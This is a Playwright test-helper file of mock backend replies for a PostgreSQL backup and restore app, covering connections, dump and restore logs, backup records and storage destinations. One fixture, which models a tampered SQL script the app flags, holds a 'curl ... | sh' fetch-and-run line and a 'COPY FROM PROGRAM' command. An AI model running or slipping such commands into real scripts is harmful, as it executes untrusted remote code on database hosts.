// Backend replies and helpers for the dialog tests. The app runs with the IPC
// mock (src/lib/ipc/mock.ts); these are the answers it gives.
import { expect, type Locator, type Page } from '@playwright/test';
import type {
	AppInfo,
	AutomaticBackups,
	BackupInfo,
	BackupOptions,
	BackupPage,
	BackupPlan,
	BackupProgress,
	BackupRecord,
	BucketListing,
	ConnectionProfile,
	ConnectionTools,
	DbObjects,
	DestinationsView,
	JobOutcome,
	JobSummary,
	RestorePlan,
	RestorePreflight,
	RestoreRecord,
	RestoreSafety,
	SavedDestination,
	ServerInfo,
	Source,
	TestStep,
	ToolInfo,
	ToolsView,
	Verification
} from '../../src/lib/ipc/bindings';
import type { MockConfig, MockControl, MockReply } from '../../src/lib/ipc/mock';
import { defaultBackupOptions, defaultRestoreOptions } from '../../src/lib/options';

export const NOW = new Date('2025-03-14T09:26:00Z');
const MB = 1024 * 1024;

/** Job ids as the backend has them: UUIDs, whoever started the job. */
export const JOB_IDS = {
	running: '3f2b8c1e-6a4d-4f0e-9b7a-1c5d2e8f4a60',
	restoring: '8d4e2a17-b3c9-4e51-a6f2-7e0b9c3d1f82',
	done: [
		'0b6f3d2a-91c4-4a7e-8e15-2d9c6b7f0a13',
		'5c1e9f4b-2d8a-4b36-97c0-e4a1f5d3b829',
		'a7d3c5e1-4f2b-4c98-b6e0-9f1a2c4d6e57'
	],
	failed: 'e2c4a6b8-0d1f-4e3a-85b7-c9d1e3f5a7b0'
};

export const prod: ConnectionProfile = {
	id: 'prod',
	name: 'Production',
	host: 'db.example.com',
	port: 5432,
	database: 'shop',
	user: 'app',
	sslmode: 'require',
	passwordStorage: 'keychain',
	isDemo: false
};

/** Where the Production connection's backups come from, as the history records it. */
export const prodSource: Source = {
	connectionId: 'prod',
	connectionName: 'Production',
	host: 'db.example.com',
	port: 5432,
	user: 'app',
	database: 'shop'
};

export const staging: ConnectionProfile = {
	id: 'staging',
	name: 'Staging',
	host: 'staging-db.internal',
	port: 5432,
	database: 'shop_staging',
	user: 'app',
	sslmode: 'prefer',
	passwordStorage: 'session',
	isDemo: false
};

export const demo: ConnectionProfile = {
	id: 'demo',
	name: 'Demo database',
	host: '/home/alex/.local/share/tusk/demo',
	port: 5433,
	database: 'tusk_demo',
	user: 'tusk',
	sslmode: null,
	passwordStorage: 'none',
	isDemo: true
};

export const server: ServerInfo = {
	version: 150018,
	versionText: 'PostgreSQL 15.18 (Debian 15.18-0+deb12u1) on x86_64-pc-linux-gnu',
	database: 'shop',
	user: 'app'
};

export const objects: DbObjects = {
	database: 'shop',
	serverVersion: '15.18',
	schemas: [
		{
			name: 'billing',
			tables: [
				{ name: 'invoices', rowsEstimate: 310_000, bytes: 96 * MB },
				{ name: 'payments', rowsEstimate: 284_500, bytes: 61 * MB }
			]
		},
		{
			name: 'public',
			tables: [
				{ name: 'audit_log', rowsEstimate: 8_912_000, bytes: 1130 * MB },
				{ name: 'customers', rowsEstimate: 120_400, bytes: 48 * MB },
				{ name: 'order_items', rowsEstimate: 3_402_000, bytes: 380 * MB },
				{ name: 'orders', rowsEstimate: 1_204_000, bytes: 412 * MB },
				{ name: 'products', rowsEstimate: 5_120, bytes: 2.2 * MB }
			]
		},
		{ name: 'reporting', tables: [{ name: 'daily_sales', rowsEstimate: 3_650, bytes: 1.5 * MB }] }
	]
};

/** A tool of PostgreSQL `version` (server_version_num), by default in Debian's folder for it. */
export function tool(
	name: string,
	version: number,
	compression: string[] = [],
	folder = `/usr/lib/postgresql/${Math.floor(version / 10_000)}/bin`
): ToolInfo {
	const text = `${Math.floor(version / 10_000)}.${version % 10_000}`;
	return {
		name,
		path: `${folder}/${name}`,
		version,
		versionText: `${name} (PostgreSQL) ${text}`,
		compression
	};
}

const pgDumpTool = tool('pg_dump', 150018);

/** pg_dump 18 as Debian builds it: gzip, lz4 and zstd. */
export const pgDump18 = tool('pg_dump', 180006, ['gzip', 'lz4', 'zstd']);

/** Both versions' tools, as `list_tools` finds them; `added`: folders the user added. */
export function toolsView(extra: ToolInfo[] = [], added: string[] = []): ToolsView {
	return {
		tools: [
			...extra,
			pgDump18,
			tool('pg_restore', 180006),
			tool('psql', 180006),
			pgDumpTool,
			tool('pg_restore', 150018),
			tool('psql', 150018)
		],
		added,
		fixed: null,
		searched: [...added, '/usr/lib/postgresql/18/bin', '/usr/lib/postgresql/15/bin', '/usr/bin']
	};
}

/** What `connection_tools` answers for a server of 15.18 when the tools of `major` are picked. */
export function connectionTools(major: 15 | 18): ConnectionTools {
	const version = major === 15 ? 150018 : 180006;
	// As the engine words it (server::tools::pick_reading) for this PostgreSQL 15 server.
	const reason = (name: string) =>
		major === 15
			? `${name} 15.18 matches the server's PostgreSQL 15`
			: `${name} 18.6 is the closest found to the server's PostgreSQL 15 (none of 15 was found; a newer ${name} works with an older server)`;
	return {
		server,
		serverError: null,
		picks: [
			{
				name: 'pg_dump',
				choice: { tool: major === 15 ? pgDumpTool : pgDump18, reason: reason('pg_dump') },
				error: null
			},
			{
				name: 'pg_restore',
				choice: { tool: tool('pg_restore', version), reason: reason('pg_restore') },
				error: null
			},
			{
				name: 'psql',
				choice: { tool: tool('psql', version), reason: reason('psql') },
				error: null
			},
			{
				name: 'pg_dumpall',
				choice: null,
				error:
					'pg_dumpall was not found in /usr/lib/postgresql/18/bin, /usr/lib/postgresql/15/bin or PATH'
			}
		]
	};
}

export function plan(outputPath = '/home/alex/shop_2025-03-14_0926.backup'): BackupPlan {
	return {
		command: `pg_dump --host=db.example.com --port=5432 --username=app --dbname=shop --format=custom --compress=6 --lock-wait-timeout=30s --verbose --file=${outputPath}`,
		server,
		pgDump: { tool: pgDumpTool, reason: 'same major version as the server (15)' },
		tables: 8,
		estimatedBytes: 2131 * MB
	};
}

export function progress(percent: number, extra: Partial<BackupProgress> = {}): BackupProgress {
	return {
		phase: 'data',
		currentObject: 'public.order_items',
		objectsTotal: 42,
		objectsCompleted: 17,
		bytesWritten: 318 * MB,
		elapsedMs: 41_000,
		percent,
		etaMs: 62_000,
		...extra
	};
}

export const dumpLog = [
	'pg_dump: last built-in OID is 16383',
	'pg_dump: reading extensions',
	'pg_dump: identifying extension members',
	'pg_dump: reading schemas',
	'pg_dump: reading user-defined tables',
	'pg_dump: reading user-defined functions',
	'pg_dump: reading user-defined types',
	'pg_dump: reading indexes',
	'pg_dump: reading constraints',
	'pg_dump: reading triggers',
	'pg_dump: saving encoding = UTF8',
	'pg_dump: saving standard_conforming_strings = on',
	'pg_dump: saving search_path = ',
	'pg_dump: dumping contents of table "billing.invoices"',
	'pg_dump: dumping contents of table "billing.payments"',
	'pg_dump: dumping contents of table "public.customers"',
	'pg_dump: dumping contents of table "public.orders"',
	'pg_dump: dumping contents of table "public.order_items"'
];

function outcome(extra: Partial<JobOutcome>): JobOutcome {
	return {
		jobId: JOB_IDS.done[0],
		jobType: 'backup',
		status: 'completed',
		startedAt: '2025-03-14T09:26:10Z',
		finishedAt: '2025-03-14T09:27:48Z',
		durationMs: 98_400,
		exitCode: 0,
		outputPath: '/home/alex/shop_2025-03-14_0926.backup',
		sizeBytes: 734 * MB,
		error: null,
		warnings: [],
		errors: [],
		lastLines: dumpLog.slice(-6),
		command: plan().command,
		progress: progress(100, { phase: 'finishing', objectsCompleted: 42, etaMs: 0 }),
		backupId: 'bk-0926',
		sha256: '5855d082233c1f0b9bfb1c6e1a4d3a8e3c0f4d6d1b7f0c2e9a8b7c6d5e4f3a2b',
		safetyBackup: null,
		location: null,
		rowCheck: null,
		...extra
	};
}

export const backupCompleted = outcome({});

export const backupFailed = outcome({
	status: 'failed',
	exitCode: 1,
	outputPath: null,
	sizeBytes: null,
	durationMs: 3_200,
	error: {
		kind: 'permissionDenied',
		summary: 'User “app” may not read table public.audit_log.',
		hint: 'Grant it SELECT (GRANT SELECT ON public.audit_log TO app), back up as the table’s owner, or untick the table.'
	},
	errors: [
		'pg_dump: error: query failed: ERROR:  permission denied for table audit_log',
		'pg_dump: detail: Query was: LOCK TABLE public.audit_log IN ACCESS SHARE MODE'
	],
	lastLines: [
		'pg_dump: reading constraints',
		'pg_dump: reading triggers',
		'pg_dump: error: query failed: ERROR:  permission denied for table audit_log',
		'pg_dump: detail: Query was: LOCK TABLE public.audit_log IN ACCESS SHARE MODE'
	],
	progress: progress(4, { phase: 'readingCatalog', currentObject: null, objectsCompleted: 0 })
});

export const backupPath = '/home/alex/backups/shop_2025-03-13_2300.backup';

export const info: BackupInfo = {
	path: backupPath,
	format: 'custom',
	sizeBytes: 734 * MB,
	created: '2025-03-13T23:00:04Z',
	database: 'shop',
	serverVersion: '15.18',
	pgDumpVersion: '15.18',
	archiveVersion: '1.14',
	compression: { algorithm: 'gzip', level: 6 },
	gzippedPlain: false,
	zstd: false,
	script: { items: [], more: 0 },
	contents: {
		schemas: ['billing', 'public', 'reporting'],
		tables: [
			{ schema: 'billing', name: 'invoices', dataBytes: 31 * MB },
			{ schema: 'billing', name: 'payments', dataBytes: 19 * MB },
			{ schema: 'public', name: 'audit_log', dataBytes: 402 * MB },
			{ schema: 'public', name: 'customers', dataBytes: 14 * MB },
			{ schema: 'public', name: 'order_items', dataBytes: 121 * MB },
			{ schema: 'public', name: 'orders', dataBytes: 139 * MB },
			{ schema: 'public', name: 'products', dataBytes: 0.7 * MB },
			{ schema: 'reporting', name: 'daily_sales', dataBytes: 0.4 * MB }
		],
		functions: 14,
		views: 6,
		sequences: 9,
		indexes: 23,
		triggers: 4,
		constraints: 31,
		hasBlobs: false,
		blobCount: 0
	},
	entries: []
};

export const plainPath = '/home/alex/backups/shop_2025-03-10.sql';

/** A SQL script someone edited: psql commands pg_dump never writes. */
export const plainInfo: BackupInfo = {
	...info,
	path: plainPath,
	format: 'plain',
	sizeBytes: 1.4 * MB,
	archiveVersion: null,
	compression: { algorithm: 'none', level: null },
	script: {
		items: [
			{ kind: 'metaCommand', line: 12, text: '\\! curl -s https://example.com/setup.sh | sh' },
			{
				kind: 'serverProgram',
				line: 4810,
				text: "COPY public.audit_log FROM PROGRAM 'gunzip -c /tmp/audit.gz'"
			},
			{ kind: 'metaCommand', line: 9021, text: '\\o /tmp/out.txt' }
		],
		more: 2
	}
};

export function preflight(extra: Partial<RestorePreflight> = {}): RestorePreflight {
	return {
		server,
		tool: {
			tool: {
				...pgDumpTool,
				name: 'pg_restore',
				path: '/usr/lib/postgresql/15/bin/pg_restore',
				versionText: 'pg_restore (PostgreSQL) 15.18'
			},
			reason: 'reads archive 1.14 and matches the server (15)'
		},
		targetDatabase: 'shop',
		createsDatabase: false,
		activeConnections: 0,
		existingRelations: 0,
		willDrop: [],
		warnings: [],
		command: `pg_restore --host=db.example.com --port=5432 --username=app --dbname=shop --single-transaction --exit-on-error --verbose ${backupPath}`,
		...extra
	};
}

/** A plain script's pre-flight: psql runs it. */
export const plainPreflight = preflight({
	tool: {
		tool: {
			...pgDumpTool,
			name: 'psql',
			path: '/usr/lib/postgresql/15/bin/psql',
			versionText: 'psql (PostgreSQL) 15.18'
		},
		reason: 'runs SQL scripts and matches the server (15)'
	},
	command: `psql --host=db.example.com --port=5432 --username=app --dbname=shop --no-psqlrc --set=ON_ERROR_STOP=1 --single-transaction --file=${plainPath}`
});

export const cleanPreflight = preflight({
	activeConnections: 3,
	existingRelations: 48,
	willDrop: [
		'TABLE billing.invoices',
		'TABLE billing.payments',
		'TABLE public.audit_log',
		'TABLE public.customers',
		'TABLE public.order_items',
		'TABLE public.orders',
		'TABLE public.products',
		'VIEW reporting.daily_sales_v',
		'FUNCTION public.order_total(bigint)'
	],
	warnings: [
		'Role “reporting_ro” owns objects in the backup but does not exist on this server: turn on No owner, or create the role first.'
	],
	command: `pg_restore --host=db.example.com --port=5432 --username=app --dbname=shop --clean --if-exists --single-transaction --exit-on-error --verbose ${backupPath}`
});

export const restoreLog = [
	'pg_restore: connecting to database for restore',
	'pg_restore: creating SCHEMA "billing"',
	'pg_restore: creating SCHEMA "reporting"',
	'pg_restore: creating TABLE "billing.invoices"',
	'pg_restore: creating TABLE "billing.payments"',
	'pg_restore: creating TABLE "public.audit_log"',
	'pg_restore: creating TABLE "public.orders"',
	'pg_restore: processing data for table "billing.invoices"',
	'pg_restore: processing data for table "billing.payments"',
	'pg_restore: processing data for table "public.audit_log"'
];

export const restoreErrors = [
	'pg_restore: from TOC entry 215; 1259 16390 TABLE orders app',
	'pg_restore: error: could not execute query: ERROR:  relation "orders" already exists',
	'Command was: CREATE TABLE public.orders (',
	'    id bigint NOT NULL,',
	'    customer_id bigint NOT NULL,',
	'    total numeric(12,2)',
	');',
	'pg_restore: from TOC entry 216; 1259 16395 TABLE customers app',
	'pg_restore: error: could not execute query: ERROR:  relation "customers" already exists',
	'Command was: CREATE TABLE public.customers (id bigint NOT NULL, email text);',
	'pg_restore: error: could not execute query: ERROR:  role "reporting_ro" does not exist',
	'Command was: ALTER TABLE reporting.daily_sales OWNER TO reporting_ro;',
	'pg_restore: error: could not execute query: ERROR:  role "reporting_ro" does not exist',
	'Command was: GRANT SELECT ON TABLE reporting.daily_sales TO reporting_ro;',
	'pg_restore: error: could not execute query: ERROR:  role "reporting_ro" does not exist',
	'Command was: ALTER VIEW reporting.daily_sales_v OWNER TO reporting_ro;',
	'pg_restore: from TOC entry 3402; 0 16390 TABLE DATA orders app',
	'pg_restore: error: COPY failed for table "orders": ERROR:  duplicate key value violates unique constraint "orders_pkey"',
	'DETAIL:  Key (id)=(1) already exists.',
	'CONTEXT:  COPY orders, line 1'
];

export const restoreFailed: JobOutcome = outcome({
	jobType: 'restore',
	status: 'completedWithWarnings',
	exitCode: 1,
	outputPath: null,
	sizeBytes: null,
	durationMs: 71_300,
	error: null,
	warnings: ['pg_restore: warning: errors ignored on restore: 6'],
	errors: restoreErrors,
	lastLines: restoreLog.slice(-4),
	command: preflight().command,
	progress: progress(100, { phase: 'finishing' })
});

export function jobsList(): JobSummary[] {
	const done = (
		id: string,
		path: string,
		size: number,
		finishedAt: string,
		ms: number
	): JobSummary => ({
		jobId: id,
		jobType: 'backup',
		label: `Backup to ${path}`,
		status: 'completed',
		startedAt: finishedAt,
		progress: null,
		outcome: outcome({ jobId: id, outputPath: path, sizeBytes: size, finishedAt, durationMs: ms })
	});
	return [
		{
			jobId: JOB_IDS.running,
			jobType: 'backup',
			label: 'Backup to /home/alex/backups/shop_2025-03-14_0920',
			status: 'running',
			startedAt: '2025-03-14T09:20:00Z',
			progress: progress(40.6),
			outcome: null
		},
		{
			jobId: JOB_IDS.restoring,
			jobType: 'restore',
			label: 'Restore of /home/alex/backups/shop_2025-03-13_2300.backup',
			status: 'running',
			startedAt: '2025-03-14T09:22:00Z',
			progress: progress(72.3, {
				phase: 'postData',
				currentObject: 'INDEX public.order_items_order_id_idx',
				etaMs: 21_000
			}),
			outcome: null
		},
		done(
			JOB_IDS.done[0],
			'/home/alex/backups/shop_2025-03-14_0600',
			712 * MB,
			'2025-03-14T06:01:12Z',
			7_400
		),
		done(
			JOB_IDS.done[1],
			'/home/alex/backups/shop_2025-03-13_2300.backup',
			734 * MB,
			'2025-03-13T23:01:38Z',
			94_000
		),
		done(
			JOB_IDS.done[2],
			'/home/alex/backups/shop_schema_only.sql',
			184 * 1024,
			'2025-03-11T16:42:00Z',
			1_900
		),
		{
			jobId: JOB_IDS.failed,
			jobType: 'backup',
			label: 'Backup to /mnt/nas/shop.backup',
			status: 'failed',
			startedAt: '2025-03-14T08:00:00Z',
			progress: null,
			outcome: outcome({
				jobId: JOB_IDS.failed,
				status: 'failed',
				finishedAt: '2025-03-14T08:00:03Z',
				error: {
					kind: 'diskFull',
					summary: 'The disk holding /mnt/nas is full.',
					hint: 'Free space or choose another folder.'
				}
			})
		}
	];
}

const HOUR = 3_600_000;
const ago = (hours: number) => new Date(NOW.getTime() - hours * HOUR).toISOString();

const recordOptions: BackupOptions = {
	...defaultBackupOptions('prod'),
	connectionId: 'prod',
	outputPath: '/home/alex/backups/shop.backup',
	format: 'custom',
	compression: 6,
	compressionMethod: 'gzip',
	includeSchema: true,
	includeData: true,
	includePrivileges: true,
	includeOwnership: true,
	schemas: null,
	tables: null,
	excludeTables: [],
	excludeTableData: [],
	jobs: 4,
	lockWaitTimeout: 30,
	noSync: false,
	encoding: null,
	extraArgs: [],
	sections: [],
	blobs: null,
	insertMode: 'copy',
	rowsPerInsert: null,
	onConflictDoNothing: false,
	create: false,
	clean: false,
	ifExists: false,
	noComments: false,
	noPublications: false,
	noSubscriptions: false,
	noSecurityLabels: false,
	noTablespaces: false,
	noUnloggedTableData: false,
	loadViaPartitionRoot: false,
	role: null,
	verbose: true,
	overwrite: false,
	encryption: { kind: 'none' }
};

export const verifiedPassed: Verification = {
	status: 'passed',
	checkedAt: ago(2),
	durationMs: 41_200,
	summary: 'Restorable: test restore on db.example.com:5432 brought back every row of 8 tables',
	checks: [
		{ name: 'checksum', ok: true, detail: 'SHA-256 matches 5855d082233c…' },
		{
			name: 'archive',
			ok: true,
			detail: 'Custom (.backup) archive by pg_dump 15.18, 214 entries'
		},
		{ name: 'rows', ok: true, detail: '14,249,170 rows in 8 tables, read from the archive' },
		{
			name: 'testRestore',
			ok: true,
			detail: 'restored into a scratch database in 38.4 s; every table has the rows of the backup'
		}
	],
	tables: [
		{ schema: 'billing', name: 'invoices', expected: 310_000, restored: 310_000 },
		{ schema: 'billing', name: 'payments', expected: 284_500, restored: 284_500 },
		{ schema: 'public', name: 'audit_log', expected: 8_912_000, restored: 8_912_000 },
		{ schema: 'public', name: 'customers', expected: 120_400, restored: 120_400 },
		{ schema: 'public', name: 'order_items', expected: 3_402_000, restored: 3_402_000 },
		{ schema: 'public', name: 'orders', expected: 1_204_000, restored: 1_204_000 },
		{ schema: 'public', name: 'products', expected: 5_120, restored: 5_120 },
		{ schema: 'reporting', name: 'daily_sales', expected: 3_650, restored: 3_650 }
	],
	restoredOn: 'db.example.com:5432'
};

export const verifiedFailed: Verification = {
	status: 'failed',
	checkedAt: ago(26),
	durationMs: 1_900,
	summary:
		'Failed checksum: the backup changed after it was made: the SHA-256 of shop_2025-03-12.backup is 9f1c…, not 5a77… as recorded',
	checks: [
		{
			name: 'checksum',
			ok: false,
			detail:
				'the SHA-256 of shop_2025-03-12.backup is 9f1c…, not 5a77… as recorded: the backup changed after it was made'
		}
	],
	tables: [],
	restoredOn: null
};

export function record(extra: Partial<BackupRecord> & { id: string }): BackupRecord {
	return {
		name: 'shop 2025-03-14 06:00',
		description: null,
		source: prodSource,
		format: 'custom',
		compression: 6,
		path: `/home/alex/backups/${extra.id}.backup`,
		sizeBytes: 734 * MB,
		sha256: '5855d082233c1f0b9bfb1c6e1a4d3a8e3c0f4d6d1b7f0c2e9a8b7c6d5e4f3a2b',
		serverVersion: '15.18',
		pgDumpVersion: '15.18',
		startedAt: ago(3),
		finishedAt: ago(2.98),
		durationMs: 94_000,
		status: 'completed',
		reason: 'manual',
		scheduleId: null,
		error: null,
		warnings: [],
		options: recordOptions,
		verification: null,
		fileExists: true,
		copies: [],
		parts: [],
		rows: null,
		...extra
	};
}

export const backups: BackupRecord[] = [
	record({
		id: 'nightly-0600',
		name: 'Nightly shop 2025-03-14 06:00',
		reason: 'scheduled',
		scheduleId: 'sched-nightly',
		format: 'directory',
		path: '/home/alex/backups/nightly/shop_2025-03-14_060000',
		sizeBytes: 712 * MB,
		durationMs: 7_400,
		verification: verifiedPassed
	}),
	record({ id: 'manual-1', name: 'Before release 2.3', startedAt: ago(5), durationMs: 96_500 }),
	record({
		id: 'failed-1',
		name: 'shop 2025-03-13 23:00',
		startedAt: ago(10),
		status: 'failed',
		sizeBytes: null,
		durationMs: 3_200,
		sha256: null,
		fileExists: false,
		error: 'The disk holding /mnt/nas is full. Free some space or choose another folder.'
	}),
	record({
		id: 'pre-restore-1',
		name: 'shop before restore',
		reason: 'preRestore',
		startedAt: ago(20),
		sizeBytes: 690 * MB
	}),
	record({
		id: 'old-1',
		name: 'shop 2025-03-12 23:00',
		startedAt: ago(34),
		verification: verifiedFailed
	})
];

export function page(items: BackupRecord[] = backups, total = items.length): BackupPage {
	const totalBytes = items.reduce((sum, b) => sum + (b.sizeBytes ?? 0), 0);
	return { items, total, totalBytes, offset: 0, limit: 8 };
}

export const noSafety: RestoreSafety = {
	safetyBackup: null,
	safetyReason: null,
	catalogBackup: null,
	checksChecksum: false,
	swapTarget: null,
	swapTempDatabase: null,
	swapKeepAs: null,
	mustConfirm: [],
	confirmName: null
};

/** A pre-flight's answer; the mock runs `restore_backup` only with its token and options. */
export function restorePlan(
	p: RestorePreflight,
	safety: Partial<RestoreSafety> = {},
	token = '9c2f6a1d8e4b7c3a5f0e2d9b6a8c4e1f'
): RestorePlan {
	return { preflight: p, safety: { ...noSafety, ...safety }, token };
}

/** What the backend asks to confirm before a clean restore into "shop". */
export const cleanConfirm: Partial<RestoreSafety> = {
	mustConfirm: ['clean drops 9 object(s) in "shop" before restoring'],
	confirmName: 'shop'
};

/** A restore into a new database that stopped part way. */
export const incompleteRestore: RestoreRecord = {
	id: 'c4a9e2f1-7d3b-4b6a-9e0c-51f8a2d6b3e7',
	host: 'db.example.com',
	port: 5432,
	database: 'shop_copy',
	connectionId: 'prod',
	inputPath: backupPath,
	options: {
		...defaultRestoreOptions('prod', backupPath),
		targetDatabase: 'shop_copy',
		createDatabase: true,
		singleTransaction: false,
		jobs: 4,
		tables: ['public.customers', 'public.orders']
	},
	startedAt: '2025-03-14T08:12:00Z',
	finishedAt: '2025-03-14T08:14:31Z',
	status: 'failed',
	incomplete: true,
	createdDatabase: true,
	error: 'the server closed the connection while public.orders was being restored'
};

/** The app's version and folders on a Linux machine. */
export const appInfo: AppInfo = {
	version: '0.1.0',
	logFolder: '/home/ada/.local/share/tusk/logs',
	dataFolder: '/home/ada/.local/share/tusk',
	portablePlatform: false
};

/** A Garage node on the LAN, its secret in the keychain. */
export const offsite: SavedDestination = {
	destination: {
		name: 'offsite',
		endpoint: 'http://192.168.1.20:3900',
		region: 'garage',
		bucket: 'backups',
		prefix: 'team',
		pathStyle: true,
		accessKeyId: 'GK31c2f218a2e44f485b94239e'
	},
	secretStorage: 'keychain'
};

/** Cloudflare R2, on a system without a keychain. */
export const r2: SavedDestination = {
	destination: {
		name: 'r2',
		endpoint: 'https://4f1c9e2a7b.r2.cloudflarestorage.com',
		region: 'auto',
		bucket: 'tusk-backups',
		prefix: '',
		pathStyle: false,
		accessKeyId: 'a1b2c3d4e5f60718293a4b5c6d7e8f90'
	},
	secretStorage: 'session'
};

/** The public key of `ageKeyFile` (the one in age's README). */
export const agePublicKey = 'age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p';

/** What `age-keygen` writes; the mock backend does not read it. */
export const ageKeyFile = `# created: 2025-03-14T09:00:00Z
# public key: ${agePublicKey}
AGE-SECRET-KEY-1GFPYYSJZGFPYYSJZGFPYYSJZGFPYYSJZGFPYYSJZGFPYYSJZGFPQ4EGAEX
`;

type Identity = Pick<DestinationsView, 'encryptionIdentity' | 'identityRecipients'>;

/** No private key saved. */
export const noIdentity: Identity = { encryptionIdentity: 'none', identityRecipients: [] };

/** `ageKeyFile` saved in the keychain. */
export const savedIdentity: Identity = {
	encryptionIdentity: 'keychain',
	identityRecipients: [agePublicKey]
};

export function destinationsView(
	destinations: SavedDestination[] = [offsite, r2],
	encryptionPassphrase: DestinationsView['encryptionPassphrase'] = 'keychain',
	identity: Identity = noIdentity
): DestinationsView {
	return { destinations, encryptionPassphrase, ...identity };
}

/** A test that reached the store and wrote, read back and deleted its probe. */
export const testPassed: TestStep[] = [
	{
		step: 'write',
		ok: true,
		detail: 'wrote offsite:.tusk-probe-5d0c2a9e41f84b7e9a61c3d2b7e8f0a1 (71 bytes)',
		failure: null
	},
	{ step: 'read', ok: true, detail: 'read it back, byte for byte', failure: null },
	{ step: 'delete', ok: true, detail: 'deleted it', failure: null }
];

/** The store refused the access key: the test stops at the first step. */
export const testCredentialsFailed: TestStep[] = [
	{
		step: 'write',
		ok: false,
		detail:
			'the store at http://192.168.1.20:3900 refused the access key `GK31c2f218a2e44f485b94239e`: check the access key id and its secret for `offsite`',
		failure: 'credentials'
	}
];

const remoteRecord = (id: string, key: string, extra: Partial<BackupRecord>): BackupRecord =>
	record({
		id,
		path: '',
		fileExists: false,
		copies: [
			{
				destination: 'offsite',
				key,
				sizeBytes: extra.sizeBytes ?? 734 * MB,
				sha256: null,
				storedAt: extra.finishedAt ?? ago(3)
			}
		],
		...extra
	});

/** What the offsite bucket holds: this machine's backups and a laptop's. */
export const bucketListing: BucketListing = {
	backups: [
		{
			key: 'shop/shop_2025-03-14_060012_1a2b3c4d.backup.age',
			record: remoteRecord('1a2b3c4d', 'shop/shop_2025-03-14_060012_1a2b3c4d.backup.age', {
				startedAt: '2025-03-14T06:00:12Z',
				options: { ...recordOptions, encryption: { kind: 'passphrase' } }
			})
		},
		{
			key: 'shop/shop_2025-03-13_230004_9f8e7d6c.backup',
			record: remoteRecord('9f8e7d6c', 'shop/shop_2025-03-13_230004_9f8e7d6c.backup', {
				startedAt: '2025-03-13T23:00:04Z',
				sizeBytes: 731 * MB
			})
		},
		{
			key: 'crm/crm_2025-03-12_180544_0c1d2e3f.sql.gz',
			record: remoteRecord('0c1d2e3f', 'crm/crm_2025-03-12_180544_0c1d2e3f.sql.gz', {
				startedAt: '2025-03-12T18:05:44Z',
				format: 'plain',
				sizeBytes: 48 * MB,
				source: { ...prodSource, host: 'laptop-ada.local', database: 'crm' }
			})
		}
	],
	unreadable: []
};

/** A connection's automatic backups: off, and the question asked already (so not shown). */
export function automaticBackups(extra: Partial<AutomaticBackups> = {}): AutomaticBackups {
	return {
		schedule: null,
		enabled: false,
		offered: true,
		lastGoodBackup: ago(3),
		nextRun: null,
		...extra
	};
}

/** Replies for an app with saved connections and nothing running. */
export function baseReplies(): Record<string, MockReply> {
	return {
		list_connections: { ok: [prod, staging, demo] },
		list_jobs: { ok: [] },
		list_backups: { ok: page() },
		list_schedules: { ok: [] },
		list_incomplete_restores: { ok: [] },
		get_settings: { ok: { verifyAfterBackup: false, toolsFolders: [] } },
		catalog_report: {
			ok: { interrupted: [], rebuilt: false, damagedCopy: null, restoredFromCopy: 0, imported: 0 }
		},
		list_objects: { ok: objects },
		preview_backup: { ok: plan() },
		test_connection: { ok: server },
		connection_tools: { ok: connectionTools(15) },
		list_tools: { ok: toolsView() },
		'plugin:path|resolve_directory': { ok: '/home/alex' },
		app_info: { ok: appInfo },
		open_log_folder: { ok: null },
		list_destinations: { ok: destinationsView([], 'none') },
		get_retention: {
			ok: {
				manual: null,
				safety: { keepLast: null, maxAgeDays: 14, gfs: null, minKeep: 2, minVerified: 0 }
			}
		},
		preview_retention: { ok: [] },
		automatic_backups: { ok: automaticBackups() },
		list_channels: { ok: { channels: [] } }
	};
}

export interface Setup {
	replies?: Record<string, MockReply>;
	theme?: 'light' | 'dark';
	viewport?: { width: number; height: number };
}

/** Light, dark and the smallest window: the looks a new screen's screenshots are taken in. */
export const LOOKS = [
	['light', { theme: 'light' }],
	['dark', { theme: 'dark' }],
	['800x600', { viewport: { width: 800, height: 600 } }]
] as const satisfies readonly (readonly [string, Setup])[];

/** Loads the app with the mock's replies in place before any script runs. */
export async function openApp(page: Page, setup: Setup = {}): Promise<void> {
	const config: MockConfig = { replies: { ...baseReplies(), ...setup.replies } };
	await page.clock.setFixedTime(NOW);
	if (setup.viewport) await page.setViewportSize(setup.viewport);
	if (setup.theme) await page.emulateMedia({ colorScheme: setup.theme });
	await page.addInitScript((c) => {
		window.__TUSK_MOCK__ = c;
		localStorage.setItem('tusk.selectedConnection', 'prod');
	}, config);
	await page.goto('/');
	await page.waitForFunction(() => window.__tuskMock !== undefined);
	// The mock is installed when the IPC module loads, before the page is mounted; window
	// shortcuts (F1, Ctrl+Shift+B) listen only once it is, and the header is mounted with them.
	await page.locator('header.topbar').waitFor();
}

export function mock(page: Page) {
	return {
		reply: (cmd: string, reply: MockReply) =>
			page.evaluate(([c, r]) => window.__tuskMock!.reply(c, r), [cmd, reply] as const),
		emit: (event: string, payload?: unknown) =>
			page.evaluate(([e, p]) => window.__tuskMock!.emit(e, p), [event, payload] as const),
		calls: (cmd: string) =>
			page.evaluate((c) => window.__tuskMock!.calls.filter((x) => x.cmd === c), cmd),
		lastJobId: async (cmd: string) => {
			const id = await page.evaluate((c) => window.__tuskMock!.lastJobId(c), cmd);
			expect(id).toBeTruthy();
			return id!;
		}
	};
}

export type { MockControl };

/** Controls inside `root` that have no label, aria-label or text: each should be empty. */
export async function unlabelledControls(page: Page, testId: string): Promise<string[]> {
	return page.getByTestId(testId).evaluate((root) =>
		[...root.querySelectorAll('input, select, textarea, button')]
			.filter((el) => {
				const input = el as HTMLInputElement;
				if (input.type === 'hidden') return false;
				const named =
					(input.labels?.length ?? 0) > 0 ||
					el.getAttribute('aria-label') ||
					el.getAttribute('aria-labelledby') ||
					(el.tagName === 'BUTTON' && el.textContent?.trim());
				return !named;
			})
			.map((el) => el.outerHTML.slice(0, 120))
	);
}

/** Scrolls a dialog's body to bring `target` to its top; the dialog itself (its header) stays put,
 * as it does not with `scrollIntoView`, which also scrolls the dialog when the body ends first. */
export async function scrollToTop(target: Locator): Promise<void> {
	await target.evaluate((el) => {
		const body = el.closest('.modal-body');
		if (body)
			body.scrollTop += el.getBoundingClientRect().top - body.getBoundingClientRect().top - 12;
	});
}
